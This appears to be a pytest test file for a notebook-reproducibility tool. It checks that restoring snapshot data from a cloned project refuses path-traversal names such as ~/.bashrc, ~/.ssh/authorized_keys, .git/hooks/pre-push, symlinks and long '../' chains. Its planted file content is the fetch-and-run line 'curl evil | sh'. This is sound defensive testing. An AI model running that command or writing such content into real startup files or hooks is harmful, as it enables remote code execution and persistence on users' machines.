"""A cloned project whose snapshot names files of the user's: nothing of them is written unasked."""

from __future__ import annotations

import json
import shutil
from types import SimpleNamespace

import pytest
from conftest import inside, tree, written

import jupyter_repro
from jupyter_repro.snapshots.snapshot_file import snapshot_path

CONTENT = "curl evil | sh\n"
SETTINGS = '[tool.jupyter-repro.data]\nremote = "store"\nkeep = "always"\n'


@pytest.fixture(scope="module")
def bait(tmp_path_factory):
    """A project with a remote inside of it that holds what its notebook read."""
    clone = tmp_path_factory.mktemp("bait") / "clone"
    path = written(clone / "a.ipynb", "open('x.csv').read()")
    (clone / "x.csv").write_text(CONTENT)
    (clone / "pyproject.toml").write_text(SETTINGS)
    jupyter_repro.snapshot(path)
    assert inside("data", "push", "a.ipynb", cwd=clone).returncode == 0
    (clone / "x.csv").unlink()
    return clone


@pytest.fixture
def clone(bait, tmp_path, monkeypatch):
    """A copy of it on another machine, in a home folder with a file of the user's."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("mine\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("JUPYTER_REPRO_CACHE", str(tmp_path / "cache"))
    copy = shutil.copytree(bait, tmp_path / "work" / "clone")
    return SimpleNamespace(folder=copy, home=home, around=tmp_path / "work")


def renamed(clone, name):
    path = snapshot_path(clone.folder / "a.ipynb")
    snapshot = json.loads(path.read_text())
    data = snapshot["context"]["data"]
    data[name] = data.pop("x.csv")
    path.write_text(json.dumps(snapshot))


NAMES = [
    "~/.bashrc",
    "~/.ssh/authorized_keys",
    "../x",
    "file:///{home}/.bashrc",
    "link/.bashrc",
    ".git/hooks/pre-push",
]


@pytest.mark.parametrize("name", NAMES)
def test_nothing_outside_of_the_clone_is_written(clone, name):
    (clone.folder / "link").symlink_to(clone.home)
    renamed(clone, name.format(home=str(clone.home).lstrip("/")))
    before = tree(clone.home), tree(clone.around)
    for command in (["--data"], ["--data", "--force"]):
        done = inside("restore", "a.ipynb", *command, cwd=clone.folder)
        assert done.returncode == 1
        assert "lies outside of the project" in done.stdout or "belongs to git" in done.stdout
    assert (tree(clone.home), tree(clone.around)) == before


def test_the_user_may_mean_a_place_outside(clone):
    renamed(clone, "../x")
    done = inside("restore", "a.ipynb", "--data", "--outside", cwd=clone.folder)
    assert done.returncode == 0, done.stdout
    assert (clone.around / "x").read_text() == CONTENT


def test_a_name_that_leads_out_of_the_copy_is_not_written_there(clone):
    renamed(clone, "../" * 40 + str(clone.home / ".profile").lstrip("/"))
    before = tree(clone.home)
    inside("verify", "a.ipynb", "--recorded-data", cwd=clone.folder)
    assert tree(clone.home) == before
